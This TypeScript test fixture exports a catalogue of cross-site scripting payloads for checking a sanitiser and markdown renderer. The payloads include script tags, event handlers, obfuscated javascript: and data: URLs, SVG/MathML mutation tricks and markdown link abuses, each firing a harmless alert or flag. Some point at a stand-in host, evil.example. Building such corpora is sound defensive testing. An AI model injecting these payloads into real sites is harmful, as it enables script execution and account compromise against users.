/**
 * Cross-site scripting payloads for the sanitiser and the markdown renderer, collected from the
 * usual public collections (OWASP filter evasion cheat sheet, PortSwigger's XSS cheat sheet,
 * DOMPurify's and sanitize-html's regression tests, HTML5 Security Cheatsheet) plus
 * markdown-specific ones. Every payload calls a recognisable sink: `alert(1)` (or confirm/prompt)
 * or `window.__xss=1`, so a page test can tell whether anything ran.
 *
 * Each entry is content as an editor could type it into a rich-text or markdown field.
 */
export interface XssPayload {
  /** What the payload tries. */
  name: string;
  payload: string;
}

const payload = (name: string, text: string): XssPayload => ({ name, payload: text });

/** Script elements in every spelling. */
const scripts: XssPayload[] = [
  payload('script tag', '<script>alert(1)</script>'),
  payload('script tag, upper case', '<SCRIPT>alert(1)</SCRIPT>'),
  payload('script tag, mixed case and global', '<ScRiPt>window.__xss=1</sCrIpT>'),
  payload('script with src', '<script src="https://evil.example/alert(1).js"></script>'),
  payload('script with data src', '<script src="data:text/javascript,alert(1)"></script>'),
  payload('script, slash in tag', '<script/xss src="data:,alert(1)"></script>'),
  payload('script, unclosed', '<script>alert(1)'),
  payload('script, nested split', '<scr<script>ipt>alert(1)</scr</script>ipt>'),
  payload('script, extra open bracket', '<<script>alert(1);//<</script>'),
  payload('script, inside paragraph', '<p>hello <script>window.__xss=1</script> world</p>'),
  payload('script, attribute after quote', '<script x="">alert(1)</script>'),
  payload('script, type module', '<script type="module">window.__xss=1</script>'),
  payload('script, in template', '<template><script>alert(1)</script></template>'),
  payload('script, entity-encoded tag', '&lt;script&gt;alert(1)&lt;/script&gt;'),
];

/** Event handler attributes. */
const handlers: XssPayload[] = [
  payload('img onerror', '<img src=x onerror=alert(1)>'),
  payload('img onerror, quoted', '<img src="x" onerror="alert(1)">'),
  payload('img onerror, no quotes no spaces', '<img/src=x onerror=alert(1)>'),
  payload('img onerror, backticks', '<img src=`x` onerror=`alert(1)`>'),
  payload('img onerror, slash separator', '<img src="x"/onerror="window.__xss=1">'),
  payload('img onerror, upper case', '<IMG SRC=x ONERROR=alert(1)>'),
  payload('img onerror, entity-encoded code', '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">'),
  payload('img onerror, newline before attribute', '<img src=x\nonerror=alert(1)>'),
  payload('img onload', '<img src="/favicon.svg" onload="alert(1)">'),
  payload('svg onload', '<svg onload=alert(1)>'),
  payload('svg onload, slash', '<svg/onload=alert(1)>'),
  payload('body onload', '<body onload=alert(1)>'),
  payload('body onpageshow', '<body onpageshow="window.__xss=1">'),
  payload('div onmouseover', '<div onmouseover="alert(1)">hover me</div>'),
  payload('p onclick', '<p onclick="alert(1)">click me</p>'),
  payload('a onfocus autofocus', '<a href="/x" onfocus="alert(1)" autofocus>focus</a>'),
  payload('input onfocus autofocus', '<input onfocus=alert(1) autofocus>'),
  payload('details ontoggle open', '<details open ontoggle=alert(1)><summary>x</summary></details>'),
  payload('video source onerror', '<video><source onerror="alert(1)"></video>'),
  payload('audio onerror', '<audio src=x onerror=alert(1)>'),
  payload('marquee onstart', '<marquee onstart=alert(1)>x</marquee>'),
  payload('select onfocus autofocus', '<select autofocus onfocus=alert(1)></select>'),
  payload('textarea onfocus autofocus', '<textarea autofocus onfocus=alert(1)>x</textarea>'),
  payload('keygen onfocus', '<keygen autofocus onfocus=alert(1)>'),
  payload('table background and onmouseover', '<table background="javascript:alert(1)"><tr><td onmouseover=alert(1)>x</td></tr></table>'),
  payload(
    'span onanimationstart with style',
    '<style>@keyframes x{}</style><span style="animation-name:x" onanimationstart="alert(1)">x</span>',
  ),
  payload('h2 onpointerenter', '<h2 onpointerenter="alert(1)">Heading</h2>'),
  payload('iframe onload on allowed-looking host', '<iframe src="https://www.youtube-nocookie.com/embed/x" onload="alert(1)"></iframe>'),
  payload('object onerror', '<object data="x" onerror="alert(1)"></object>'),
  payload('handler with unicode escape in name', '<img src=x on\u0000error=alert(1)>'),
  payload('attribute splitting with quotes', '<img """><script>alert(1)</script>">'),
  payload('attribute breakout through title', '<a title="x" onmouseover=alert(1) href="/">x</a>'),
  payload('element with bogus namespace attr', '<img src=x xmlns:on="x" on:error=alert(1) onerror=alert(1)>'),
];

/** javascript: and friends in links, obfuscated. */
const schemes: XssPayload[] = [
  payload('javascript href', '<a href="javascript:alert(1)">x</a>'),
  payload('javascript href, mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'),
  payload('javascript href, leading space', '<a href=" javascript:alert(1)">x</a>'),
  payload('javascript href, leading control char', '<a href="\u0001javascript:alert(1)">x</a>'),
  payload('javascript href, tab entity', '<a href="jav&#x09;ascript:alert(1)">x</a>'),
  payload('javascript href, literal tab', '<a href="jav\tascript:alert(1)">x</a>'),
  payload('javascript href, newline entity', '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
  payload('javascript href, literal newline', '<a href="java\nscript:alert(1)">x</a>'),
  payload('javascript href, carriage return entity', '<a href="jav&#x0D;ascript:alert(1)">x</a>'),
  payload('javascript href, decimal entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'),
  payload(
    'javascript href, zero-padded decimal',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  ),
  payload(
    'javascript href, hex entities no semicolons',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  ),
  payload('javascript href, named colon entity', '<a href="javascript&colon;alert(1)">x</a>'),
  payload('javascript href, tab and newline named entities', '<a href="java&Tab;script&NewLine;:alert(1)">x</a>'),
  payload('javascript href, null entity', '<a href="java&#0;script:alert(1)">x</a>'),
  payload('javascript href, url-encoded', '<a href="javascript:%61lert(1)">x</a>'),
  payload('javascript href, unquoted', '<a href=javascript:alert(1)>x</a>'),
  payload('javascript href, backtick quoted', '<a href=`javascript:alert(1)`>x</a>'),
  payload('javascript href, global sink', '<a href="javascript:window.__xss=1">x</a>'),
  payload('javascript href, comment obfuscation', '<a href="javascript://%0aalert(1)">x</a>'),
  payload('javascript img src', '<img src="javascript:alert(1)">'),
  payload('javascript img src, entity-encoded', '<img src="&#x6A;avascript:alert(1)">'),
  payload('javascript iframe src', '<iframe src="javascript:alert(1)"></iframe>'),
  payload('javascript iframe src, entity tab', '<iframe src="java&#9;script:alert(1)"></iframe>'),
  payload('javascript in srcset', '<img src="/a.png" srcset="javascript:alert(1) 1x">'),
  payload('javascript in cite', '<blockquote cite="javascript:alert(1)">q</blockquote>'),
  payload('javascript in xlink:href', '<a xlink:href="javascript:alert(1)">x</a>'),
  payload('javascript in area href', '<map name="m"><area href="javascript:alert(1)" shape="rect" coords="0,0,10,10"></map>'),
  payload('javascript in link href', '<link rel="stylesheet" href="javascript:alert(1)">'),
  payload('javascript in video poster', '<video poster="javascript:alert(1)"></video>'),
  payload('javascript in isindex action', '<isindex action="javascript:alert(1)" type="submit">'),
  payload('vbscript href', '<a href="vbscript:msgbox(1)">x</a>'),
  payload('vbscript href, upper case', '<a href="VBSCRIPT:alert(1)">x</a>'),
  payload('data text/html href', '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
  payload('data text/html base64 href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
  payload('data href, entity obfuscated', '<a href="&#100;ata:text/html,<script>alert(1)</script>">x</a>'),
  payload('data svg image', '<img src="data:image/svg+xml,<svg onload=alert(1) xmlns=%22http://www.w3.org/2000/svg%22>">'),
  payload(
    'data svg image, base64',
    '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">',
  ),
  payload('data text/html iframe', '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
  payload('data image with html mime trick', '<img src="data:image/png,<script>alert(1)</script>" onerror="alert(1)">'),
  payload('livescript href', '<a href="livescript:alert(1)">x</a>'),
  payload('protocol-relative href', '<a href="//evil.example/?alert(1)">x</a>'),
];

/** SVG and MathML namespace confusion (mutation XSS from parser differentials). */
const namespaces: XssPayload[] = [
  payload('svg style img', '<svg><style><img src=x onerror=alert(1)></style></svg>'),
  payload('svg p style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
  payload('svg script', '<svg><script>alert(1)</script></svg>'),
  payload('svg script, entity-encoded', '<svg><script>&#97;lert(1)</script></svg>'),
  payload('svg a xlink javascript', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'),
  payload('svg animate href', '<svg><animate attributeName="href" values="javascript:alert(1)"/><a><text>x</text></a></svg>'),
  payload('svg set onbegin', '<svg><set attributeName="x" onbegin="alert(1)"/></svg>'),
  payload('svg foreignObject', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>'),
  payload(
    'svg use data',
    '<svg><use href="data:image/svg+xml,<svg id=%22x%22 xmlns=%22http://www.w3.org/2000/svg%22><image href=%221%22 onerror=%22alert(1)%22/></svg>#x"/></svg>',
  ),
  payload('svg title mutation', '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>'),
  payload(
    'math mtext table mglyph style',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ),
  payload(
    'math mtext mglyph svg',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=alert(1)>">',
  ),
  payload(
    'math annotation-xml',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  ),
  payload('math href', '<math href="javascript:alert(1)">CLICKME</math>'),
  payload('math maction', '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>'),
  payload('form math mtext mglyph', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'),
  payload('svg desc comment', '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></desc></svg>'),
];

/** Raw-text elements and parser-state tricks. */
const mutations: XssPayload[] = [
  payload('xmp closing', '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'),
  payload('noscript closing', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
  payload('style closing', '<style><p title="</style><img src=x onerror=alert(1)>"></style>'),
  payload('textarea closing', '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>'),
  payload('title closing', '<title><p title="</title><img src=x onerror=alert(1)>"></title>'),
  payload('noembed closing', '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>'),
  payload('noframes closing', '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>'),
  payload('iframe content closing', '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>'),
  payload('plaintext', '<plaintext><img src=x onerror=alert(1)>'),
  payload('template content', '<template><img src=x onerror=alert(1)></template>'),
  payload('comment breakout', '<!--<img src="--><img src=x onerror=alert(1)//">'),
  payload('bogus comment breakout', '<!-- --!><img src=x onerror=alert(1)> -->'),
  payload('cdata outside foreign content', '<![CDATA[><img src=x onerror=alert(1)>]]>'),
  payload('processing instruction', '<?xml version="1.0"?><img src=x onerror=alert(1)>'),
  payload('option entity mutation', '<select><option>&lt;img src=x onerror=alert(1)&gt;</option></select>'),
  payload('attribute with closing tag', '<a title="</a><img src=x onerror=alert(1)>" href="/">x</a>'),
  payload('unclosed attribute quote', "<a href=\"/x title='><img src=x onerror=alert(1)>'>x</a>"),
  payload('double-encoded entities', '&amp;lt;img src=x onerror=alert(1)&amp;gt;'),
  payload('style with expression', '<div style="width:expression(alert(1))">x</div>'),
  payload('style with url javascript', '<div style="background:url(javascript:alert(1))">x</div>'),
  payload('style element with import', '<style>@import "javascript:alert(1)";</style>'),
  payload('table foster parenting', '<table><img src=x onerror=alert(1)><tr><td>x</td></tr></table>'),
  payload('nested a in table', '<table><a href="javascript:alert(1)">x</a></table>'),
];

/** Elements that run or load something, or change where the page goes. */
const dangerousElements: XssPayload[] = [
  payload('iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  payload('iframe srcdoc, entity-encoded', '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>'),
  payload(
    'iframe srcdoc with allowed src',
    '<iframe src="https://www.youtube-nocookie.com/embed/x" srcdoc="<script>alert(1)</script>"></iframe>',
  ),
  payload('iframe from other host', '<iframe src="https://evil.example/?alert(1)"></iframe>'),
  payload('iframe over http', '<iframe src="http://www.youtube-nocookie.com/embed/x?alert(1)"></iframe>'),
  payload('iframe host suffix trick', '<iframe src="https://www.youtube-nocookie.com.evil.example/?alert(1)"></iframe>'),
  payload('iframe userinfo trick', '<iframe src="https://www.youtube-nocookie.com@evil.example/?alert(1)"></iframe>'),
  payload('frameset', '<frameset><frame src="javascript:alert(1)"></frameset>'),
  payload('base href', '<base href="javascript:alert(1)//"><a href="/x">x</a>'),
  payload('base href to other host', '<base href="https://evil.example/?alert(1)"><a href="x">x</a>'),
  payload('meta refresh javascript', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
  payload('meta refresh data', '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'),
  payload(
    'meta csp override',
    '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'"><script>alert(1)</script>',
  ),
  payload('form action javascript', '<form action="javascript:alert(1)"><input type="submit" value="go"></form>'),
  payload('button formaction', '<form><button formaction="javascript:alert(1)">go</button></form>'),
  payload('input formaction', '<form id="f"></form><input form="f" type="submit" formaction="javascript:alert(1)" value="go">'),
  payload('input image src', '<input type="image" src="x" onerror="alert(1)">'),
  payload('object data javascript', '<object data="javascript:alert(1)"></object>'),
  payload('object data html', '<object data="data:text/html,<script>alert(1)</script>"></object>'),
  payload('object param', '<object><param name="src" value="javascript:alert(1)"></object>'),
  payload('embed src', '<embed src="javascript:alert(1)">'),
  payload('embed data svg', '<embed src="data:image/svg+xml,<svg onload=alert(1) xmlns=%22http://www.w3.org/2000/svg%22>">'),
  payload('applet', '<applet code="javascript:alert(1)"></applet>'),
  payload('link import', '<link rel="import" href="data:text/html,<script>alert(1)</script>">'),
  payload('portal', '<portal src="javascript:alert(1)"></portal>'),
  payload('dialog open onclose', '<dialog open onclose="alert(1)"><form method="dialog"><button>x</button></form></dialog>'),
  payload('custom element is', '<p is="x-evil" onclick="alert(1)">x</p>'),
  payload('html element in fragment', '<html onmouseover="alert(1)"><body>x</body></html>'),
  payload('id clobbering', '<img name="__xss" id="__xss" src="/a.png"><form id="main"><input id="attributes"></form>'),
];

/** Markdown syntax that yields links, images or raw HTML. */
const markdown: XssPayload[] = [
  payload('markdown link javascript', '[x](javascript:alert(1))'),
  payload('markdown link javascript, leading spaces', '[x](  javascript:alert(1))'),
  payload('markdown link javascript, angle brackets', '[x](<javascript:alert(1)>)'),
  payload('markdown link javascript, entity', '[x](&#106;avascript:alert(1))'),
  payload('markdown link javascript, named entity colon', '[x](javascript&colon;alert(1))'),
  payload('markdown link javascript, escaped chars', '[x](java\\script:alert(1))'),
  payload('markdown link javascript, percent-encoded', '[x](javascript%3Aalert(1))'),
  payload('markdown link javascript, title breakout', '[x](https://example.com "title\\" onmouseover=\\"alert(1)")'),
  payload('markdown link vbscript', '[x](vbscript:msgbox(1))'),
  payload('markdown link data', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'),
  payload('markdown image javascript', '![x](javascript:alert(1))'),
  payload('markdown image onerror in alt', '![x" onerror="alert(1)](https://example.com/a.png)'),
  payload('markdown image data svg', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'),
  payload('markdown reference link', '[x][1]\n\n[1]: javascript:alert(1)'),
  payload('markdown reference link, title', '[x][ref]\n\n[ref]: javascript:window.__xss=1 "title"'),
  payload('markdown reference image', '![x][img]\n\n[img]: javascript:alert(1)'),
  payload('markdown autolink javascript', '<javascript:alert(1)>'),
  payload('markdown autolink vbscript', '<vbscript:msgbox(1)>'),
  payload('markdown autolink data', '<data:text/html,<script>alert(1)</script>>'),
  payload('markdown gfm autolink with html', 'www.example.com/<img src=x onerror=alert(1)>'),
  payload('markdown html in heading', '## Heading <img src=x onerror=alert(1)>'),
  payload('markdown html block', '<div>\n<img src=x onerror=alert(1)>\n</div>'),
  payload('markdown html in list', '- item <svg onload=alert(1)>\n- <a href="javascript:alert(1)">x</a>'),
  payload('markdown html in table', '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |'),
  payload('markdown link in emphasis', '**[x](javascript:alert(1))**'),
  payload('markdown nested link text html', '[<img src=x onerror=alert(1)>](https://example.com)'),
  payload('markdown code span not executed', '`<script>alert(1)</script>`'),
  payload('markdown fenced code with html', '```html\n<script>alert(1)</script>\n```'),
  payload('markdown heading id forgery', '<h2 id="main" onclick="alert(1)">x</h2>\n\n## x'),
  payload('markdown link in heading', '## [x](javascript:alert(1))'),
  payload('markdown blockquote html', '> <iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  payload('markdown setext heading with script', 'Title<script>alert(1)</script>\n====='),
];

/** The whole corpus (≥ 120 payloads). */
export const xssCorpus: readonly XssPayload[] = [
  ...scripts,
  ...handlers,
  ...schemes,
  ...namespaces,
  ...mutations,
  ...dangerousElements,
  ...markdown,
];
